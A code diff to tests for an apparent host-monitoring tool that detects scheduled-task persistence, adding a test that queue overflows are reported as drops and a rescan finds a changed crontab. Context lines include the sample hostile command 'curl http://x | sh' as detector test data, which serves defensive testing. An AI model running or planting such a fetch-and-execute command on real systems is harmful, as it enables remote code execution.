@@ -19,10 +19,12 @@ from fluxtui.bus import EventBus
 from fluxtui.capabilities.persistence import PersistenceWatch
 from fluxtui.collectors.change_watch import (
     FAN_Q_OVERFLOW,
+    ChangeEvent,
     ChangeGroup,
 )
 from fluxtui.component import TickContext
 from fluxtui.config import Config, PersistenceConfig, PersistencePlace, RansomwareConfig
+from fluxtui.detection.persistence_rules import read_content
 from fluxtui.events import Alert, FileChange, ProcessKey, Severity
 from tests.fakes import metrics
 from tests.kernel import require_root
@@ -234,6 +236,23 @@ def test_burst_is_summarised_and_a_change_hidden_in_it_still_found(tmp_path: Pat
     assert len(summary) == 1 and "counted, not examined one by one" in summary[0].note
     entry = [a for a in alerts(published) if a.rule_id == "persistence.schedule_entry"]
     assert entry and "curl http://x | sh" in entry[0].reasons[0]
+
+
+def test_overflow_is_a_drop_and_a_rescan_finds_what_changed(tmp_path: Path, watch_factory):
+    etc = tmp_path / "etc"
+    etc.mkdir()
+    (etc / "crontab").write_text("0 0 31 2 * /bin/true\n")
+    watch, published = watch_factory([PersistencePlace(str(etc / "crontab"), "T1053.003",
+                                                       "crontab")], [])
+    # what lost events would have shown: the content changed, no event was read for it
+    watch._remember(str(etc / "crontab"), read_content("crontab", b""))
+    watch._handle(ChangeEvent(FAN_Q_OVERFLOW, 0, -1, None))
+    tick_until(watch, lambda p: bool(alerts(p)), published)
+    assert watch.status().drops == {"change_events_overflow": 1}
+    assert "lost: change_events_overflow 1" in watch.status().detail
+    (entry,) = [a for a in alerts(published) if a.rule_id == "persistence.schedule_entry"]
+    assert "/bin/true" in entry.reasons[0] and "events lost" in entry.extra["writer"]
+    assert any("rescan" in c.note for c in changes(published))
 
 
 def test_queue_overflow_is_reported_as_a_drop(tmp_path: Path):
